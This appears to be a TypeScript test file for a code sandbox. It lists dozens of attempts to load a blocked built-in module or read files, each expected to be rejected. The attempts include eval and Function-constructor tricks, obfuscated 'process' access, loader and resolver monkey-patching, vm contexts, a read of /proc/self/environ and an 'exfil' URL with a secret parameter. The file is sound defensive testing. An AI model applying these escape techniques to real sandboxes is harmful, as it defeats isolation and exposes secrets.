/** Modules at run time, by every way to load them. */
import { alone, gets, importing, noModule, rejected, type Table } from "../hostile.ts";

/** Ways to compile text, in scripts that do not name what they use. */
const MAKERS: Table = {
  "eval": `eval(text)`,
  "indirect eval": `(0, eval)(text)`,
  "Function": `Function("return " + text)()`,
  "new Function": `new Function("return " + text)()`,
  "a function's constructor": `(() => {}).constructor("return " + text)()`,
  "an async function's constructor": `(async () => {}).constructor("return " + text)()`,
  "a generator's constructor": `(function* () {}).constructor("return " + text)().next().value`,
  "an async generator's constructor":
    `(async function* () {}).constructor("return " + text)().next().then((r: any) => r.value)`,
  "an inherited constructor":
    `Object.getPrototypeOf((async () => {}).constructor)("return " + text)()`,
  "Reflect.construct": `Reflect.construct(Function, ["return " + text])()`,
  "another's new.target": `Reflect.construct(Object, ["return " + text], (() => {}).constructor)`,
  "a subclass of Function": `new (class extends Function {})("return " + text)()`,
  "getBuiltinModule": `(globalThis as any)["pro" + "cess"]["getBuiltin" + "Module"]("sqlite")`,
  "the accessor of process":
    `Object.getOwnPropertyDescriptor(globalThis, "pro" + "cess")!.get!.call(globalThis).getBuiltinModule("sqlite")`,
};

/** Errors of the others: no code, or no such method. */
const OTHERWISE: Table = {
  "another's new.target": "Error: no module",
  "getBuiltinModule": "TypeError: globalThis.process.getBuiltinModule is not a function",
  "the accessor of process":
    "TypeError: Object.getOwnPropertyDescriptor(...).get.call(...).getBuiltinModule is not a function",
};

/** Modules, in specifiers that the builder cannot read. */
const LOADED: Table = {
  "data": "data:application/javascript,export default 1",
  "npm": "npm:exfil-secret-data@1.0.0",
  "jsr": "jsr:@exfil/secret@1",
  "ext": "ext:core/ops",
  "a shim of the runtime": "invoked:module",
  "the bootstrap": "file:///bootstrap.ts",
};

export const IMPORTS = [
  ...Object.entries(MAKERS).flatMap(([way, expression]) =>
    rejected(OTHERWISE[way] ?? noModule("node:sqlite"), {
      [`code from text by ${way}`]:
        `const text: any = ["im", "port('node:sq", "lite')"].join(""); const got = await ${expression};
    if (!got || !("DatabaseSync" in got)) throw new Error("no module"); return Object.keys(got);`,
    })
  ),
  ...Object.entries(LOADED).flatMap(([name, specifier]) =>
    rejected(noModule(specifier), {
      [name]: `return Object.keys(await load("${specifier}"));`,
    })
  ),
  ...importing({ "sqlite": "node:sqlite", "WASI": "node:wasi", "a REPL": "node:repl" }),
  ...rejected("TypeError: TypeError: Module ", {
    "a file as text":
      `return (await load("file://" + input.file, { with: { type: "text" } })).default;`,
    "a file as bytes":
      `return (await load("file://" + input.file, { with: { type: "bytes" } })).default;`,
    "a file as JSON":
      `return (await load("file://" + input.file, { with: { type: "json" } })).default;`,
    "a file by case":
      `return (await load("FILE://" + input.file, { with: { type: "text" } })).default;`,
  }),
  ...rejected(noModule("./proc/self/environ"), {
    "a file by a relative path":
      `return (await load("./proc/self/environ", { with: { type: "text" } })).default;`,
  }),
  ...rejected('TypeError: TypeError: Module "data:application/javascript,', {
    "a file within data":
      `return (await load("data:application/javascript," + encodeURIComponent("import x from 'file://" + input.file + "' with { type: 'text' }; export default x"))).default;`,
  }),
  ...rejected('TypeError: TypeError: Module "', {
    "a blob":
      `return (await load(URL.createObjectURL(new Blob(["export default 1"], { type: "application/javascript" })))).default;`,
  }),
  ...rejected('TypeError: TypeError: Module "https://', {
    "https":
      `return Object.keys(await load("https://127.0.0.1:" + input.port + "/exfil?d=secret"));`,
  }),
  ...rejected('TypeError: TypeError: Module "http://', {
    "http": `return Object.keys(await load("http://127.0.0.1:" + input.port + "/x.js"));`,
  }),
  ...rejected(noModule("file:///main.js"), {
    "the main module": `return Object.keys(await load(Deno.mainModule));`,
  }),
  ...rejected(noModule("node:sqlite"), {
    "by a vm":
      `const vm = await import("node:vm"); return Object.keys(await vm.runInThisContext("import('node:sqlite')", { importModuleDynamically: (vm.constants as any).USE_MAIN_CONTEXT_DEFAULT_LOADER }));`,
    "by the linker of a SourceTextModule":
      `const vm: any = await import("node:vm"); const m = new vm.SourceTextModule("import { DatabaseSync } from 'node:sqlite';");
    await m.link((specifier: string) => load(specifier)); await m.evaluate(); return "linked";`,
  }),
  ...rejected('TypeError: Module "node:sqlite" is not available in a function', {
    "sqlite required": `return Object.keys(req("node:sqlite"));`,
    "sqlite by Module._load": `return Object.keys(req("module")._load("node:sqlite"));`,
    "sqlite by _compile":
      `const M = req("module"); const m = new M("x"); m._compile("module.exports = require('node:sqlite')", "/x.js"); return Object.keys(m.exports);`,
  }),
  ...rejected('TypeError: Module "sqlite" is not available in a function', {
    "sqlite required bare": `return Object.keys(req("sqlite"));`,
  }),
  ...rejected('TypeError: Module "node:sqlite" is not available in a function', {
    "sqlite by _resolveFilename":
      `req("module")._resolveFilename = () => "node:sqlite"; return Object.keys(req("node:fs"));`,
    "sqlite by _resolveFilename, bare":
      `req("module")._resolveFilename = () => "sqlite"; return Object.keys(req("fs"));`,
  }).map(alone),
  ...rejected("Error: nothing", {
    "sqlite inside a resolve":
      `const M = req("module"); let got: any; const was = M._resolveLookupPaths; M._resolveLookupPaths = function () { got ??= Object.keys(M._load("node:sqlite")); return was.apply(this, arguments); }; try { req("./x"); } catch {} if (!got) throw new Error("nothing"); return got;`,
  }).map(alone),
  ...rejected("TypeError: req(...).registerHooks is not a function", {
    "sqlite by a hook of its own":
      `req("module").registerHooks({ resolve: (s: string) => ({ url: s, shortCircuit: true }) }); return Object.keys(await import("node:sqlite"));`,
  }),
  ...rejected("TypeError: Cannot read properties of undefined (reading 'name')", {
    "hooks by import": `return ((await load("node:module")) as any).registerHooks.name;`,
  }),
  ...rejected("TypeError: req(...).register is not a function", {
    "hooks by register": `return (req("module") as any).register("data:text/javascript,1");`,
  }),
  ...rejected("TypeError: process.getBuiltinModule is not a function", {
    "getBuiltinModule by process":
      `return Object.keys((process as any).getBuiltinModule("node:sqlite"));`,
  }),
  ...rejected("TypeError: (intermediate value).getBuiltinModule is not a function", {
    "getBuiltinModule by node:process":
      `return Object.keys((await load("node:process")).getBuiltinModule("node:sqlite"));`,
    "getBuiltinModule by node:module":
      `return Object.keys((await load("node:module")).getBuiltinModule("node:sqlite"));`,
  }),
  ...rejected("TypeError: req(...).getBuiltinModule is not a function", {
    "getBuiltinModule by require":
      `return Object.keys(req("process").getBuiltinModule("node:sqlite"));`,
  }),
  ...rejected("TypeError: process.binding is not a function", {
    "process.binding": `return Object.keys((process as any).binding("fs"));`,
  }),
  ...rejected("TypeError: A dynamic import callback was not specified.", {
    "by another context of a vm":
      `const vm = await import("node:vm"); return Object.keys(await vm.runInNewContext("import('node:sqlite')"));`,
    "by a SourceTextModule":
      `const vm: any = await import("node:vm"); const m = new vm.SourceTextModule("export default await import('node:sqlite')");
    await m.link(() => {}); await m.evaluate(); return Object.keys(m.namespace.default);`,
  }),
  ...gets("0", {
    "names of built-ins as paths":
      `let got = 0; for (const s of ["node:sqlite/", "node:SQLITE", " node:sqlite", "node:sqlite?x", "node:sqlite#x", "node:/sqlite", "node:./sqlite", "node:%73qlite"]) { try { if ("DatabaseSync" in await load(s)) got++; } catch {} } return got;`,
  }),
];
